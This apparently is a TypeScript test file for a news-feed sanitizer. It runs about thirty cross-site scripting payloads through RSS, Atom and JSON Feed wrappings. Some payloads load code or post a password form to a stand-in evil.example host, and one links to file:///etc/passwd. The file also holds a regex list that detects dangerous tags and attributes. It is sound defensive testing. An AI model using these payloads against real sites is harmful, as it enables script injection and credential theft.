import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildArticleOf } from '@naba/submission';
import { decodeHTML } from 'entities';
import { findData, howToGetData } from '../../../tools/data/find-data';
import type { Feed } from './feed';
import { readFeed } from './read-feed';

const dangerous =
  /^(?:script|style|iframe|frame|frameset|object|embed|applet|svg|math|form|input|button|textarea|select|meta|link|base|template|noscript|xml|audio|video|portal|plaintext|xmp)$/;

/**
 * What could run, load or lead where it should not, in HTML that is written strictly: each `<` begins a tag of lower-case letters
 * whose attributes stand in quotation marks. What is written otherwise is told as well, since no two browsers read it alike.
 */
function findHostile(html: string): string[] {
  const found: string[] = [];
  const rest = html.replace(/<\/?([a-z][a-z0-9]*)((?: [a-z]+="[^"]*")*)>/g, (tag: string, name: string, attributes: string) => {
    if (dangerous.test(name)) found.push(tag);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      if (/^on|^(?:style|srcdoc|srcset|action|formaction|background|data|poster|ping|id|name|class)$/.test(attribute))
        found.push(tag);
      const address = decodeHTML(value).replace(/[\s\0-\x1f]+/g, '');
      if (/^(?:href|src|cite)$/.test(attribute) && /^[^/?#]*:/.test(address) && !/^(?:https?|mailto):/i.test(address))
        found.push(tag);
    }
    return '';
  });
  return /<|>/.test(rest) ? [...found, rest] : found;
}

const htmlOf = ({ items }: Feed) =>
  items.flatMap(({ summaryHtml, contentHtml }) => [summaryHtml ?? [], contentHtml ?? []].flat());

/** Each has `safe` for readers, and nothing else that may come out. */
const hostile: readonly (readonly [why: string, html: string])[] = [
  ['a script', '<p>safe</p><script>evil()</script>'],
  ['a script in capitals that is never closed', '<p>safe</p><SCRIPT SRC=//evil.example/x.js>evil()'],
  ['a script in a script', '<p>safe</p><scr<script>ipt>evil()</script>'],
  ['a slash for a space', '<p>safe</p><img/src="https://a.example/x.png"/onerror="evil()">'],
  ['attributes that run', '<p onclick="evil()" ONMOUSEOVER=evil() onfocus=\'evil()\' autofocus tabindex=1>safe</p>'],
  ['a quotation mark in an attribute', "<p title='\"><script>evil()</script>'>safe</p>"],
  ['a backtick', '<img alt="``onerror=evil()" src="x">safe'],
  ['javascript:', '<a href="javascript:evil()">safe</a>'],
  ['javascript: with white space and references', '<a href=" &#1;java&#x09;scr&NewLine;ipt&colon;evil()">safe</a>'],
  ['vbscript: and data:', '<a href="VBScript:evil()">safe</a><img src="data:text/html,<script>evil()</script>">'],
  ['data: in base64', '<a href="data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=">safe</a>'],
  [
    'file:, blob: and feed:',
    '<a href="file:///etc/passwd">safe</a><img src="blob:https://a.example/1"><a href="feed:javascript:evil()"></a>',
  ],
  ['SVG', '<svg onload=evil()><script>evil()</script><a xlink:href="javascript:evil()"><text></text></a></svg>safe'],
  ['animation in SVG', '<svg><animate attributeName=href values="javascript:evil()"/></svg>safe'],
  ['MathML', '<math><mtext><style><img src=x onerror=evil()></style></mtext></math>safe'],
  [
    'style as element and attribute',
    '<style>@import "//evil.example";</style><p style="background:url(javascript:evil())">safe</p>',
  ],
  ['what ends a style early', '<style><!--</style><img src=x onerror=evil()>--></style>safe'],
  [
    'iframe and srcdoc',
    '<iframe srcdoc="&lt;script&gt;evil()&lt;/script&gt;"></iframe><iframe src="//evil.example"></iframe>safe',
  ],
  [
    'object, embed, applet',
    '<object data="evil.swf"><param name=a></object><embed src="evil.swf"><applet code=evil></applet>safe',
  ],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:evil()">safe'],
  ['base and link', '<base href="//evil.example/"><link rel=stylesheet href="//evil.example/x.css">safe'],
  ['a form', '<form action="//evil.example"><input name=password><button formaction="javascript:evil()">x</button></form>safe'],
  ['comments and declarations', '<!--><img src=x onerror=evil()>--><![CDATA[<script>evil()</script>]]><?php evil() ?>safe'],
  ['conditional comments', '<!--[if gte IE 4]><script>evil()</script><![endif]-->safe'],
  ['noscript that parsers see differently', '<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>safe'],
  ['textarea that parsers see differently', '<textarea><p title="</textarea><img src=x onerror=evil()>"></textarea>safe'],
  ['a template and a frameset', '<template><script>evil()</script></template><frameset onload=evil()></frameset>safe'],
  ['attributes that clobber', '<img name="getElementById" id="cookie" src="x">safe'],
  ['sets of sources', '<img srcset="javascript:evil() 1x" src="x"><picture><source srcset="data:text/html,evil"></picture>safe'],
  ['control characters', '<p>safe</p><scr\0ipt>evil()</scr\0ipt><img src=x on\x0cerror=evil()>'],
  ['a tag that is cut', '<p>safe</p><img src=x onerror=evil()'],
];

const escape = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

const wrappings: readonly (readonly [how: string, wrap: (html: string) => string])[] = [
  [
    'escaped in RSS',
    (html) => `<rss><channel><item><title>T</title><description>${escape(html)}</description></item></channel></rss>`,
  ],
  [
    'CDATA in content:encoded',
    (html) =>
      `<rss><channel><item><title>T</title><content:encoded><![CDATA[${html.replaceAll(']]>', ']]]]><![CDATA[>')}]]></content:encoded></item></channel></rss>`,
  ],
  [
    'base64 in Atom',
    (html) =>
      `<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>T</title><content type="application/octet-stream">${Buffer.from(html).toString('base64')}</content></entry></feed>`,
  ],
  [
    'markup in Atom',
    (html) =>
      `<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>T</title><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">${html}</div></content></entry></feed>`,
  ],
  [
    'JSON Feed',
    (html) =>
      JSON.stringify({
        version: 'https://jsonfeed.org/version/1.1',
        items: [{ id: '1', title: 'T', content_html: html, summary: html }],
      }),
  ],
];

const read = (text: string) => readFeed({ bytes: Buffer.from(text), url: 'https://news.example/feed' });

describe('hostile markup', () => {
  it('is told from markup that is not', () => {
    expect(findHostile('<p dir="rtl">1 &lt; 2 <a href="https://a.example/x:y">x</a> <img src="/a.png"></p>')).toEqual([]);
    for (const html of [
      '<script>',
      '<p onclick="x">',
      '<a href="java&#9;script:x">',
      '<p title=x>',
      '<IMG>',
      '<img src="data:x">',
    ])
      expect(findHostile(html)).not.toEqual([]);
  });

  describe.each(wrappings)('%s', (_how, wrap) => {
    it.each(hostile)('lets nothing out of %s', (_why, html) => {
      for (const safe of htmlOf(read(wrap(html)))) expect(findHostile(safe)).toEqual([]);
    });
  });

  it.each(hostile)('leaves what readers read beside %s, as text of an article too', (_why, html) => {
    const [{ contentHtml = '' } = {}] = read(wrappings[1]![1](`<p>The bridge over the river opens today.</p>${html}`)).items;
    expect(contentHtml).toContain('safe');
    const built = buildArticleOf({ url: 'https://news.example/a', title: 'Bridge', html: contentHtml });
    expect(built).toMatchObject({
      kind: 'draft',
      draft: { body: expect.stringContaining('The bridge over the river opens today.') as string },
    });
    expect(JSON.stringify(built)).not.toMatch(/<\/?[a-z]|javascript:|onerror=/i);
  });

  it('makes titles text, whatever stands in attributes', () => {
    const titleOf = (html: string) =>
      read(`<rss><channel><item><title>${escape(html)}</title></item></channel></rss>`).items[0]?.title;
    expect(titleOf('<b>Bridge</b> opens<script>evil()</script>')).toBe('Bridge opens');
    expect(titleOf('<img alt="a > b" src="x" onerror=evil()>Bridge opens')).toBe('Bridge opens');
  });
});

const folder = findData('feeds/hostile-markup');
(folder === undefined ? describe.skip : describe)(`hostile feeds of other parsers' tests (${howToGetData})`, () => {
  it('lets nothing out of any', () => {
    const files = readdirSync(folder!);
    expect(files.length).toBeGreaterThan(700);
    const found = files.flatMap((file) =>
      htmlOf(readFeed({ bytes: readFileSync(join(folder!, file)), url: 'https://news.example/feed' }))
        .flatMap(findHostile)
        .map((tag) => `${file}: ${tag}`),
    );
    expect(found).toEqual([]);
  });
});
